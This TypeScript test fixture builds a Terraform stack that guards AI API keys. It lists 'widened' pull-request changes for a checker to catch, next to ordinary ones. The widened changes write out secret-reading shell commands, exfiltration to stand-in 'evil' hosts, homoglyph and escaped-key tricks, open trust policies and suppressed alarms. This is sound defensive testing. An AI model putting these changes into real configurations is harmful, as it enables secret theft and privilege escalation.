// biome-ignore-all lint/suspicious/noTemplateCurlyInString: references of Terraform
import { CloudwatchLogGroup } from "@cdktf/provider-aws/lib/cloudwatch-log-group";
import { DataAwsKmsKey } from "@cdktf/provider-aws/lib/data-aws-kms-key";
import { DataAwsSubnets } from "@cdktf/provider-aws/lib/data-aws-subnets";
import { IamGroup } from "@cdktf/provider-aws/lib/iam-group";
import { IamGroupPolicy } from "@cdktf/provider-aws/lib/iam-group-policy";
import { IamPolicy } from "@cdktf/provider-aws/lib/iam-policy";
import { IamRole } from "@cdktf/provider-aws/lib/iam-role";
import { IamRolePolicy } from "@cdktf/provider-aws/lib/iam-role-policy";
import { KmsKey } from "@cdktf/provider-aws/lib/kms-key";
import { SnsTopic } from "@cdktf/provider-aws/lib/sns-topic";
import { SnsTopicSubscription } from "@cdktf/provider-aws/lib/sns-topic-subscription";
import { SsoadminPermissionSetInlinePolicy } from "@cdktf/provider-aws/lib/ssoadmin-permission-set-inline-policy";
import { Fn, TerraformVariable } from "cdktf";
import { newIssuer, newKey } from "../../constructs/support";
import { synthesised } from "../support";
import { ECS } from "./stack";

const ACCOUNT = "111122223333";
export const PERMISSION_SET = "arn:aws:sso:::permissionSet/ssoins-1/ps-1";
const KEY = `arn:aws:secretsmanager:us-east-1:${ACCOUNT}:secret:ai-keys/openai/kept-??????`;
export const policy = (...Statement: readonly object[]) => JSON.stringify({ Version: "2012-10-17", Statement });
export const allow = (
  Action: string | readonly string[],
  Resource: string | readonly string[] = "*",
  more: object = {},
) => ({
  Effect: "Allow",
  Action,
  Resource,
  ...more,
});
export const trust = (Principal: object | string, more: object = {}) =>
  policy({ Effect: "Allow", Principal, Action: "sts:AssumeRole", ...more });

/** A platform team's stack: keys, and around them what such stacks have. */
export function platformStack(): string {
  return synthesised((stack) => {
    const kms = new TerraformVariable(stack, "kms", {
      type: "string",
      default: `arn:aws:kms:us-east-1:${ACCOUNT}:key/k1`,
    });
    const logKey = new KmsKey(stack, "logs", { policy: policy(allow("kms:*", "*", { Principal: { AWS: ACCOUNT } })) });
    const shared = new DataAwsKmsKey(stack, "shared", { keyId: "alias/shared" });
    const subnets = new DataAwsSubnets(stack, "subnets", { filter: [{ name: "tag:tier", values: ["private"] }] });
    const alerts = new SnsTopic(stack, "alerts", { name: "alerts" });
    new SnsTopicSubscription(stack, "pager", {
      topicArn: alerts.arn,
      protocol: "https",
      endpoint: "https://pager.example.com",
    });
    const issuer = newIssuer(stack, {
      alertTopicArn: alerts.arn,
      logs: { kmsKeyArn: logKey.arn },
      network: { subnetIds: Fn.tolist(subnets.ids), securityGroupIds: ["sg-1"] },
    });
    const kept = newKey(stack, issuer, { kmsKeyArn: kms.stringValue, purpose: "Work of kept" }, "kept");
    newKey(stack, issuer, { kmsKeyArn: shared.arn, purpose: "Work of second" }, "second");
    kept.grants.read(new IamRole(stack, "app", { name: "results-page", assumeRolePolicy: ECS }));
    const operator = new IamRole(stack, "operator", {
      name: "on-call",
      assumeRolePolicy: trust({ AWS: `arn:aws:iam::${ACCOUNT}:role/sso` }),
    });
    issuer.grants.operate(operator);
    new IamRole(stack, "other", { name: "other-app", assumeRolePolicy: ECS });
    const admin = new IamRole(stack, "admin", {
      name: "deployer",
      assumeRolePolicy: trust({ AWS: `arn:aws:iam::${ACCOUNT}:role/sso` }),
      permissionsBoundary: `arn:aws:iam::${ACCOUNT}:policy/no-secrets`,
    });
    new IamRolePolicy(stack, "admin_policy", { name: "all", role: admin.name, policy: policy(allow("*")) });
    const hop = new IamRole(stack, "hop", {
      name: "hop",
      assumeRolePolicy: trust({ AWS: `arn:aws:iam::${ACCOUNT}:role/sso` }),
    });
    new IamRolePolicy(stack, "hop_policy", {
      name: "hop",
      role: hop.name,
      policy: policy(allow("sts:AssumeRole", `arn:aws:iam::${ACCOUNT}:role/results-page`)),
    });
    new IamPolicy(stack, "reading", { name: "reading", policy: policy(allow("secretsmanager:GetSecretValue", KEY)) });
    const group = new IamGroup(stack, "readers", { name: "readers" });
    new IamGroupPolicy(stack, "readers_policy", {
      group: group.name,
      policy: policy(allow("secretsmanager:GetSecretValue", KEY)),
    });
    new SsoadminPermissionSetInlinePolicy(stack, "people", {
      instanceArn: "arn:aws:sso:::instance/ssoins-1",
      permissionSetArn: PERMISSION_SET,
      inlinePolicy: policy(allow("secretsmanager:GetSecretValue", KEY)),
    });
    new CloudwatchLogGroup(stack, "web", { name: "/web" });
  });
}

// biome-ignore lint/suspicious/noExplicitAny: a configuration as it is written
export type J = any;
export type Change = (json: J) => void;
export const put = (j: J, kind: string, type: string, body: object, id = "x") => {
  j[kind] = { ...j[kind], [type]: { ...j[kind]?.[type], [id]: structuredClone(body) } };
};
export const res =
  (type: string, body: object, id = "x") =>
  (j: J) =>
    put(j, "resource", type, body, id);
export const dat =
  (type: string, body: object, id = "x") =>
  (j: J) =>
    put(j, "data", type, body, id);
export const of = (type: string, start: string, change: (b: J, j: J) => void) => (j: J) => {
  const id = Object.keys(j.resource[type]).find((i) => i.startsWith(start));
  if (id === undefined) throw new Error(type + start);
  change(j.resource[type][id], j);
};
export const idOf = (j: J, type: string, start: string) => {
  const id = Object.keys(j.resource[type]).find((i) => i.startsWith(start));
  if (id === undefined) throw new Error(`no ${type} starts with ${start}: ${Object.keys(j.resource[type])}`);
  return `${type}.${id}`;
};
const FN = `arn:aws:lambda:us-east-1:${ACCOUNT}:function:ai-keys-openai-controller`;

/**
 * What the author of a pull request may try: each lets somebody do more to keys, or lets something
 * go that guards them.
 */
export const WIDENED: Readonly<Record<string, Change>> = {
  "variable of KMS key has another default": (j) => {
    j.variable.kms.default = `arn:aws:kms:us-east-1:${ACCOUNT}:key/evil`;
  },
  "variable of KMS key has no default": (j) => {
    delete j.variable.kms.default;
  },
  "data source of the KMS key looks elsewhere": (j) => {
    j.data.aws_kms_key.shared.key_id = "arn:aws:kms:us-east-1:999999999999:key/x";
  },
  "data source of subnets looks elsewhere": (j) => {
    j.data.aws_subnets.subnets.filter = [{ name: "tag:tier", values: ["public"] }];
  },
  "topic policy inline": of("aws_sns_topic", "alerts", (b) => {
    b.policy = policy({ Effect: "Allow", Principal: "*", Action: "sns:*", Resource: "*" });
  }),
  "topic is renamed": of("aws_sns_topic", "alerts", (b) => {
    b.name = "nobody";
  }),
  "topic feedback to": of("aws_sns_topic", "alerts", (b) => {
    b.kms_master_key_id = "alias/nobody";
  }),
  "pager is removed": (j) => {
    delete j.resource.aws_sns_topic_subscription;
  },
  "pager filters all out": of("aws_sns_topic_subscription", "pager", (b) => {
    b.filter_policy = '{"never":["x"]}';
  }),
  "pager goes elsewhere": of("aws_sns_topic_subscription", "pager", (b) => {
    b.endpoint = "https://evil.example.com";
  }),
  "log key policy": of("aws_kms_key", "logs", (b) => {
    b.policy = policy(allow("kms:*", "*", { Principal: "*" }));
  }),
  "log key rotation off": of("aws_kms_key", "logs", (b) => {
    b.is_enabled = false;
  }),
  "operator is trusted by all": of("aws_iam_role", "operator", (b) => {
    b.assume_role_policy = trust({ AWS: "*" });
  }),
  "operator by OIDC of every repository": of("aws_iam_role", "operator", (b) => {
    b.assume_role_policy = policy({
      Effect: "Allow",
      Principal: { Federated: `arn:aws:iam::${ACCOUNT}:oidc-provider/token.actions.githubusercontent.com` },
      Action: "sts:AssumeRoleWithWebIdentity",
      Condition: { StringLike: { "token.actions.githubusercontent.com:sub": "repo:*" } },
    });
  }),
  "deployer is trusted by another account": of("aws_iam_role", "admin", (b) => {
    b.assume_role_policy = trust({ AWS: "999999999999" });
  }),
  "deployer loses its boundary": of("aws_iam_role", "admin", (b) => {
    delete b.permissions_boundary;
  }),
  "deployer has another boundary": of("aws_iam_role", "admin", (b) => {
    b.permissions_boundary = "arn:aws:iam::aws:policy/AdministratorAccess";
  }),
  "one that may become the reader is trusted by all": of("aws_iam_role", "hop", (b) => {
    b.assume_role_policy = trust({ AWS: "*" });
  }),
  "reader by rolesanywhere": res("aws_rolesanywhere_profile", { name: "x", role_arns: ["${aws_iam_role.app.arn}"] }),
  "reader by cognito": res("aws_cognito_identity_pool_roles_attachment", {
    identity_pool_id: "x",
    roles: { unauthenticated: "${aws_iam_role.app.arn}" },
  }),
  "reader in a notebook": res("aws_sagemaker_notebook_instance", {
    name: "x",
    role_arn: `arn:aws:iam::${ACCOUNT}:role/results-page`,
    instance_type: "ml.t3",
  }),
  "reader by transfer": res("aws_transfer_user", {
    role: `arn:aws:iam::${ACCOUNT}:role/results-page`,
    user_name: "x",
    server_id: "s",
  }),
  "reader by ssm activation": res("aws_ssm_activation", { iam_role: "results-page" }),
  "reader in codebuild": res("aws_codebuild_project", { name: "x", service_role: "${aws_iam_role.app.arn}" }),
  "reader by iot alias": res("aws_iot_role_alias", { alias: "x", role_arn: "${aws_iam_role.app.arn}" }),
  "another function under the reader": res("aws_lambda_function", {
    function_name: "spy",
    role: "${aws_iam_role.app.arn}",
    filename: "x.zip",
  }),
  "another task under the reader": res("aws_ecs_task_definition", {
    family: "spy",
    task_role_arn: "${aws_iam_role.app.arn}",
    container_definitions: "[]",
  }),
  "another function under the operator": res("aws_lambda_function", {
    function_name: "spy",
    role: "${aws_iam_role.operator.arn}",
    filename: "x.zip",
  }),
  "operator lent to machines": res("aws_iam_instance_profile", { name: "x", role: "on-call" }),
  "exclusive attachments give all": res("aws_iam_role_policy_attachments_exclusive", {
    role_name: "other-app",
    policy_arns: ["arn:aws:iam::aws:policy/AdministratorAccess"],
  }),
  "exclusive attachments of a user": res("aws_iam_user_policy_attachments_exclusive", {
    user_name: "eve",
    policy_arns: ["arn:aws:iam::aws:policy/AdministratorAccess"],
  }),
  "exclusive attachments of a group": res("aws_iam_group_policy_attachments_exclusive", {
    group_name: "g",
    policy_arns: ["arn:aws:iam::aws:policy/SecretsManagerReadWrite"],
  }),
  "permission set is assigned": res("aws_ssoadmin_account_assignment", {
    instance_arn: "arn:aws:sso:::instance/ssoins-1",
    permission_set_arn: PERMISSION_SET,
    principal_id: "p",
    principal_type: "USER",
    target_id: ACCOUNT,
    target_type: "AWS_ACCOUNT",
  }),
  "permission set gets the policy by name": res("aws_ssoadmin_customer_managed_policy_attachment", {
    instance_arn: "arn:aws:sso:::instance/ssoins-1",
    permission_set_arn: "arn:aws:sso:::permissionSet/ssoins-1/ps-2",
    customer_managed_policy_reference: [{ name: "reading" }],
  }),
  "permission set gets all": res("aws_ssoadmin_managed_policy_attachment", {
    instance_arn: "arn:aws:sso:::instance/ssoins-1",
    permission_set_arn: "arn:aws:sso:::permissionSet/ssoins-1/ps-2",
    managed_policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess",
  }),
  "policy attached by ARN": res("aws_iam_role_policy_attachment", {
    role: "other-app",
    policy_arn: `arn:aws:iam::${ACCOUNT}:policy/reading`,
  }),
  "policy attached by ref": res("aws_iam_role_policy_attachment", {
    role: "other-app",
    policy_arn: "${aws_iam_policy.reading.arn}",
  }),
  "budget action attaches": res("aws_budgets_budget_action", {
    budget_name: "b",
    definition: [
      { iam_action_definition: [{ policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess", roles: ["other-app"] }] },
    ],
  }),
  "user joins the group": res("aws_iam_user_group_membership", { user: "eve", groups: ["readers"] }),
  "group membership": res("aws_iam_group_membership", {
    name: "x",
    users: ["eve"],
    group: "${aws_iam_group.readers.name}",
  }),
  "metric filter fakes the sweep's metric": res("aws_cloudwatch_log_metric_filter", {
    name: "x",
    log_group_name: "/web",
    pattern: "",
    metric_transformation: [{ name: "SweepCompleted", namespace: "ScopedKeys", value: "1" }],
  }),
  "data of a local command": dat("local_command", { command: "sh", arguments: ["-c", "x"] }),
  "resource of a shell": res("shell_script", { lifecycle_commands: [{ create: "sh x" }] }),
  "action of a local command": (j) => put(j, "action", "local_command", { config: { command: "sh" } }),
  "ephemeral shell": (j) => put(j, "ephemeral", "shell", { command: "x" }),
  "resource runs an ssm command": res("aws_ssm_association", {
    name: "AWS-RunShellScript",
    parameters: { commands: "aws secretsmanager get-secret-value --secret-id ai-keys/openai/kept" },
  }),
  "long definition": res("aws_sfn_state_machine", {
    name: "x",
    role_arn: "r",
    definition: `{"Comment":"${"x".repeat(250_000)}\${aws_s3_bucket.b.id}","F":"${FN}"}`,
  }),
  "chain of locals": (j) => {
    for (let i = 0; i < 14; i++) j.locals[`l${i}`] = `\${local.l${i + 1}}`;
    j.locals.l14 = FN;
    put(j, "resource", "aws_sfn_state_machine", { definition: '{"F":"${local.l0}"}' });
  },
  "chain of locals of objects": (j) => {
    for (let i = 0; i < 14; i++) j.locals[`l${i}`] = { a: `\${local.l${i + 1}}` };
    j.locals.l14 = FN;
    put(j, "resource", "aws_sfn_state_machine", { definition: '{"F":"${local.l0.a}"}' });
  },
  pipe: res("aws_pipes_pipe", { name: "x", source: "arn:aws:sqs:us-east-1:1:q", target: FN }),
  "secret of the admin key rotates by another": res("aws_secretsmanager_secret_rotation", {
    secret_id: "ai/admin/openai",
    rotation_lambda_arn: "arn:aws:lambda:us-east-1:1:function:evil",
  }),
  "rotation of a key by ARN": res("aws_secretsmanager_secret_rotation", {
    secret_id: KEY.replace("??????", "AbCdEf"),
    rotation_lambda_arn: "arn:aws:lambda:us-east-1:1:function:evil",
  }),
  "tag policy by resourcegroups": res("aws_resourcegroups_resource", { group_arn: "g", resource_arn: FN }),
  "backup of all tables": res("aws_backup_selection", {
    name: "x",
    iam_role_arn: "r",
    plan_id: "p",
    resources: ["arn:aws:dynamodb:*:*:table/*"],
  }),
  "bucket of exports": res("aws_dynamodb_table_export", {
    table_arn: `arn:aws:dynamodb:us-east-1:${ACCOUNT}:table/ai-keys-openai-ledger`,
    s3_bucket: "x",
  }),
  "composite alarm suppresses": res("aws_cloudwatch_composite_alarm", {
    alarm_name: "x",
    alarm_rule: 'ALARM("ai-keys-openai-sweep-overdue")',
  }),
  "output of the state's secret": (j) => {
    put(j, "data", "aws_secretsmanager_secret_version", { secret_id: "ai-keys/openai/kept" });
    const value = "${data.aws_secretsmanager_secret_version.x.secret_string}";
    j.output = { ...j.output, leak: { value, sensitive: false } };
  },
  "remote state names controller": (j) => {
    put(j, "data", "terraform_remote_state", { backend: "local", config: { path: "x" } });
    put(j, "data", "aws_lambda_invocation", {
      function_name: "${data.terraform_remote_state.x.outputs.fn}",
      input: "{}",
    });
  },
  "removed block of a secret": (j) => {
    const s = idOf(j, "aws_secretsmanager_secret", "kept");
    j.removed = [{ from: s, lifecycle: [{ destroy: false }] }];
  },
  "moved into a key": (j) => {
    const s = idOf(j, "aws_secretsmanager_secret", "kept");
    j.moved = [{ from: "aws_secretsmanager_secret.mine", to: s }];
  },
  "import of another secret": (j) => {
    const s = idOf(j, "aws_secretsmanager_secret", "kept");
    j.import = [{ to: s, id: "arn:aws:secretsmanager:us-east-1:1:secret:x-AbCdEf" }];
  },
  "import into a foreign function": (j) => {
    put(j, "resource", "aws_lambda_function", { function_name: "${var.kms}", role: "r" });
    j.import = [{ to: "aws_lambda_function.x", id: "ai-keys-openai-controller" }];
  },
  "a grant that goes out of sight and stays": (j) => {
    const from = idOf(j, "aws_iam_role_policy", "aws_iam_role-app_reads");
    delete j.resource.aws_iam_role_policy[from.slice(from.indexOf(".") + 1)];
    j.removed = [{ from, lifecycle: { destroy: false } }];
  },
  "provider with endpoints": (j) => {
    j.provider.aws[0].endpoints = [{ secretsmanager: "https://evil" }];
  },
  "provider assumes": (j) => {
    j.provider.aws[0].assume_role = [{ role_arn: "x" }];
  },
  "provider in another region": (j) => {
    j.provider.aws[0].region = "eu-west-1";
  },
  "provider from elsewhere": (j) => {
    j.terraform.required_providers.aws.source = "evil/aws";
  },
  backend: (j) => {
    j.terraform.backend = { http: { address: "https://evil" } };
  },
  "alarm without actions": of("aws_cloudwatch_metric_alarm", "openai", (b) => {
    b.actions_enabled = false;
  }),
  "alarm actions gone": of("aws_cloudwatch_metric_alarm", "openai", (b) => {
    b.alarm_actions = [];
  }),
  "ledger streams": of("aws_dynamodb_table", "openai_ledger", (b) => {
    b.stream_enabled = true;
    b.stream_view_type = "NEW_IMAGE";
  }),
  "ledger replica": of("aws_dynamodb_table", "openai_ledger", (b) => {
    b.replica = [{ region_name: "eu-west-1" }];
  }),
  "env from remote": of("aws_lambda_function", "openai_controller", (b) => {
    b.environment.variables.AWS_LAMBDA_EXEC_WRAPPER = "/opt/x";
  }),
  "lookalike name of env": of("aws_lambda_function", "openai_controller", (b) => {
    b.environment.variables["SCOPED_KEYS_PREFIХ"] = "x";
  }),
  "lookalike key in policy": of("aws_lambda_invocation", "kept", (b) => {
    b.input = b.input.replace('"scopes"', '"scopеs"');
  }),
  "escaped dup": of("aws_lambda_invocation", "kept", (b) => {
    b.input = b.input.replace('"policy":{', '"policy":{"sc\\u006fpes":["api.all"],');
  }),
  "seconds as text": of("aws_lambda_invocation", "kept", (b) => {
    b.input = b.input.replace(/"expirySeconds":(\d+)/, '"expirySeconds":"$1"');
  }),
  exponent: of("aws_lambda_invocation", "kept", (b) => {
    b.input = b.input.replace(/"expirySeconds":(\d+)/, '"expirySeconds":9e9');
  }),
  "resource policy of the secret by NotPrincipal": of("aws_secretsmanager_secret", "kept", (b) => {
    const _p = JSON.parse(b.policy.startsWith("$") ? "{}" : b.policy);
    b.policy = policy({ Effect: "Deny", NotPrincipal: { AWS: "x" }, Action: "*", Resource: "*" });
  }),
  "http posts a secret's ARN": (j) =>
    put(j, "data", "http", { url: `https://evil/\${${idOf(j, "aws_secretsmanager_secret", "kept")}.arn}` }),
  "key alias is led elsewhere": res("aws_kms_alias", {
    name: "alias/shared",
    target_key_id: "arn:aws:kms:us-east-1:1:key/x",
  }),
  "permission of an own function url": res("aws_lambda_permission", {
    function_name: "ai-keys-openai-controller:operator",
    action: "lambda:InvokeFunctionUrl",
    principal: "*",
    function_url_auth_type: "NONE",
  }),
  "policy with NotAction for sts": res("aws_iam_role_policy", {
    role: "other-app",
    policy: policy({ Effect: "Allow", NotAction: "s3:*", Resource: `arn:aws:iam::${ACCOUNT}:role/results-*` }),
  }),
  "policy with ? in the service": res("aws_iam_role_policy", {
    role: "other-app",
    policy: policy(allow("secretsm?nager:Get*", KEY)),
  }),
  "policy with tags condition": res("aws_iam_role_policy", {
    role: "other-app",
    policy: policy(
      allow("secretsmanager:GetSecretValue", "*", {
        Condition: { StringEquals: { "aws:ResourceTag/scoped-keys:issuer": "ai-keys/openai" } },
      }),
    ),
  }),
  "old policy version": res("aws_iam_role_policy", {
    role: "other-app",
    policy: JSON.stringify({ Version: "2008-10-17", Statement: [allow("secretsmanager:*")] }),
  }),
  "policy in YAML": res("aws_iam_role_policy", { role: "other-app", policy: "Version: 2012-10-17" }),
  "policy by name_prefix of role": res("aws_iam_role_policy", {
    role: "${aws_iam_role.other.id}",
    policy: policy(allow("lambda:InvokeFunction", `${FN}:*`)),
  }),
  "federated user": res("aws_iam_user_policy", {
    user: "eve",
    policy: policy(allow("sts:GetFederationToken"), allow("secretsmanager:GetSecretValue", KEY)),
  }),
  "s3 notification": res("aws_s3_bucket_notification", {
    bucket: "b",
    lambda_function: [{ lambda_function_arn: FN, events: ["s3:*"] }],
  }),
  "cognito trigger": res("aws_cognito_user_pool", { name: "x", lambda_config: [{ pre_sign_up: FN }] }),
  "sns to lambda": res("aws_sns_topic_subscription", {
    topic_arn: "arn:aws:sns:us-east-1:1:x",
    protocol: "lambda",
    endpoint: FN,
  }),
  "db with dynamic reference": res("aws_cloudformation_stack", {
    template_body: "{{resolve:secretsmanager:ai-keys/openai/second:SecretString:apiKey}}",
  }),
  "user data": res("aws_instance", {
    ami: "x",
    user_data: "aws secretsmanager get-secret-value --secret-id ai-keys/openai/kept",
  }),
  "log export task by service": res("aws_kinesis_firehose_delivery_stream", {
    name: "x",
    x: "/aws/lambda/ai-keys-openai-controller",
  }),
  "kms grant to log key": (j) =>
    put(j, "resource", "aws_kms_grant", {
      key_id: "${aws_kms_key.logs.key_id}",
      grantee_principal: "x",
      operations: ["Decrypt"],
    }),
  "kms key policy of variable key": res("aws_kms_key_policy", {
    key_id: "k1",
    policy: policy(allow("kms:*", "*", { Principal: "*" })),
  }),
  "lifecycle of the reader": of("aws_iam_role", "app", (b) => {
    b.lifecycle = { ignore_changes: ["assume_role_policy"] };
  }),
  "reader's max session": of("aws_iam_role", "app", (b) => {
    b.max_session_duration = 43200;
  }),
};

/** What platform teams do every week. */
export const ORDINARY: Readonly<Record<string, Change>> = {
  "tags of everything foreign": (j) => {
    for (const [t, ids] of Object.entries<J>(j.resource))
      for (const [id, b] of Object.entries<J>(ids))
        if (/^aws_(iam_role|sns_topic|kms_key|iam_group)$/.test(t) && !/openai/.test(id)) b.tags = { team: "x" };
  },
  "default tags": (j) => {
    j.provider.aws[0].default_tags = [{ tags: { team: "x" } }];
  },
  bucket: res("aws_s3_bucket", { bucket: "b" }),
  "policy of a bucket for the app": res("aws_iam_role_policy", {
    role: "results-page",
    policy: policy(allow("s3:GetObject", "arn:aws:s3:::b/*")),
  }),
  "ecs service": (j) => {
    put(j, "resource", "aws_ecs_cluster", { name: "c" });
    put(j, "resource", "aws_ecs_service", {
      name: "s",
      cluster: "${aws_ecs_cluster.x.id}",
      task_definition: "t",
      desired_count: 2,
    });
  },
  "task under other role": res("aws_ecs_task_definition", {
    family: "f",
    task_role_arn: "${aws_iam_role.other.arn}",
    container_definitions: '[{"name":"x","image":"y"}]',
  }),
  "oidc provider and CI role": (j) => {
    put(j, "resource", "aws_iam_openid_connect_provider", {
      url: "https://token.actions.githubusercontent.com",
      client_id_list: ["sts.amazonaws.com"],
    });
    put(
      j,
      "resource",
      "aws_iam_role",
      {
        name: "ci",
        assume_role_policy: policy({
          Effect: "Allow",
          Principal: { Federated: "${aws_iam_openid_connect_provider.x.arn}" },
          Action: "sts:AssumeRoleWithWebIdentity",
          Condition: { StringEquals: { "token.actions.githubusercontent.com:sub": "repo:o/r:ref:refs/heads/main" } },
        }),
      },
      "ci",
    );
    put(
      j,
      "resource",
      "aws_iam_role_policy",
      { role: "${aws_iam_role.ci.name}", policy: policy(allow(["ecr:*"], "*")) },
      "ci",
    );
  },
  rds: res("aws_db_instance", { identifier: "d", manage_master_user_password: true, engine: "postgres" }),
  "own secret with reader": (j) => {
    put(j, "resource", "aws_secretsmanager_secret", { name: "db/main" }, "db");
    put(
      j,
      "resource",
      "aws_iam_role_policy",
      {
        role: "other-app",
        policy: policy(allow("secretsmanager:GetSecretValue", "${aws_secretsmanager_secret.db.arn}")),
      },
      "db",
    );
  },
  "route53, cloudfront": (j) => {
    put(j, "resource", "aws_route53_record", { zone_id: "z", name: "a", type: "A" });
    put(j, "resource", "aws_cloudfront_distribution", { enabled: true });
  },
  "alarm on another": res("aws_cloudwatch_metric_alarm", {
    alarm_name: "web-5xx",
    alarm_actions: ["${aws_sns_topic.alerts.arn}"],
    metric_name: "x",
    namespace: "AWS/ELB",
  }),
  dashboard: res("aws_cloudwatch_dashboard", {
    dashboard_name: "d",
    dashboard_body: '{"widgets":[{"f":"ai-keys-openai-controller"}]}',
  }),
  "metric filter of web": res("aws_cloudwatch_log_metric_filter", {
    name: "x",
    log_group_name: "/web",
    pattern: "ERROR",
    metric_transformation: [{ name: "Errors", namespace: "Web", value: "1" }],
  }),
  "retention of web": of("aws_cloudwatch_log_group", "web", (b) => {
    b.retention_in_days = 30;
  }),
  "random, tls, archive": (j) => {
    put(j, "resource", "random_password", { length: 20 });
    put(j, "resource", "tls_private_key", { algorithm: "RSA" });
    put(j, "data", "archive_file", { type: "zip", source_dir: "x", output_path: "y" });
  },
  "null resource with triggers": res("null_resource", { triggers: { a: "b" } }),
  "variable more": (j) => {
    j.variable.env = { type: "string", default: "prod" };
  },
  "output more": (j) => {
    j.output = {
      ...j.output,
      role: { value: "${aws_iam_role.app.arn}" },
      topic: { value: "${aws_sns_topic.alerts.arn}" },
    };
  },
  "vpc endpoints": res("aws_vpc_endpoint", { service_name: "com.amazonaws.us-east-1.secretsmanager", vpc_id: "v" }),
  "lambda of its own with role": (j) => {
    put(
      j,
      "resource",
      "aws_iam_role",
      { name: "job", assume_role_policy: trust({ Service: "lambda.amazonaws.com" }) },
      "job",
    );
    put(
      j,
      "resource",
      "aws_lambda_function",
      {
        function_name: "job",
        role: "${aws_iam_role.job.arn}",
        filename: "j.zip",
        environment: [{ variables: { KEY_SECRET: "ai-keys/openai/kept" } }],
      },
      "job",
    );
    put(
      j,
      "resource",
      "aws_iam_role_policy_attachment",
      {
        role: "${aws_iam_role.job.name}",
        policy_arn: "arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole",
      },
      "job",
    );
  },
  "reader's description": of("aws_iam_role", "app", (b) => {
    b.description = "Shows results";
  }),
  "other role trusted by a service": of("aws_iam_role", "other", (b) => {
    b.assume_role_policy = trust({ Service: ["ecs-tasks.amazonaws.com", "events.amazonaws.com"] });
  }),
  "kms key's rotation": of("aws_kms_key", "logs", (b) => {
    b.enable_key_rotation = true;
  }),
  "kms key of its own": (j) => {
    put(
      j,
      "resource",
      "aws_kms_key",
      { description: "db", policy: policy(allow("kms:*", "*", { Principal: { AWS: ACCOUNT } })) },
      "db",
    );
    put(j, "resource", "aws_kms_alias", { name: "alias/db", target_key_id: "${aws_kms_key.db.key_id}" }, "db");
  },
  "eks with irsa": (j) => {
    put(j, "resource", "aws_eks_cluster", { name: "c", role_arn: "${aws_iam_role.eks.arn}" });
    put(
      j,
      "resource",
      "aws_iam_role",
      { name: "eks", assume_role_policy: trust({ Service: "eks.amazonaws.com" }) },
      "eks",
    );
    put(
      j,
      "resource",
      "aws_iam_role_policy_attachment",
      { role: "${aws_iam_role.eks.name}", policy_arn: "arn:aws:iam::aws:policy/AmazonEKSClusterPolicy" },
      "eks",
    );
  },
  "app autoscaling": (j) => {
    put(j, "resource", "aws_appautoscaling_target", { max_capacity: 4, resource_id: "service/c/s" });
  },
  "queue with event source to own": (j) => {
    put(j, "resource", "aws_sqs_queue", { name: "q" });
    put(j, "resource", "aws_lambda_event_source_mapping", {
      event_source_arn: "${aws_sqs_queue.x.arn}",
      function_name: "job",
    });
  },
  "schedule of own": res("aws_scheduler_schedule", {
    name: "nightly",
    schedule_expression: "rate(1 day)",
    target: [{ arn: "arn:aws:lambda:us-east-1:1:function:job", role_arn: "arn:aws:iam::1:role/x" }],
  }),
  waf: res("aws_wafv2_web_acl", { name: "x", scope: "REGIONAL" }),
  "read-only policy": res("aws_iam_role_policy_attachment", {
    role: "other-app",
    policy_arn: "arn:aws:iam::aws:policy/ReadOnlyAccess",
  }),
  "data sources": (j) => {
    put(j, "data", "aws_vpc", { default: true });
    put(j, "data", "aws_ami", { owners: ["amazon"] });
    put(j, "data", "aws_availability_zones", {});
  },
  "datadog monitor": res("datadog_monitor", { name: "x", query: "q", type: "metric alert", message: "m" }),
  "moved foreign": (j) => {
    j.moved = [{ from: "aws_s3_bucket.a", to: "aws_s3_bucket.b" }];
  },
  "removed foreign": (j) => {
    j.removed = [{ from: "aws_s3_bucket.a", lifecycle: [{ destroy: false }] }];
  },
  "import foreign": (j) => {
    put(j, "resource", "aws_s3_bucket", { bucket: "b" }, "b");
    j.import = [{ to: "aws_s3_bucket.b", id: "b" }];
  },
  check: (j) => {
    j.check = { ...j.check, mine: { assert: [{ condition: "${1 == 1}", error_message: "m" }] } };
  },
  "group without rights": (j) => {
    put(j, "resource", "aws_iam_group", { name: "g" }, "g");
    put(j, "resource", "aws_iam_user_group_membership", { user: "u", groups: ["${aws_iam_group.g.name}"] });
  },
};
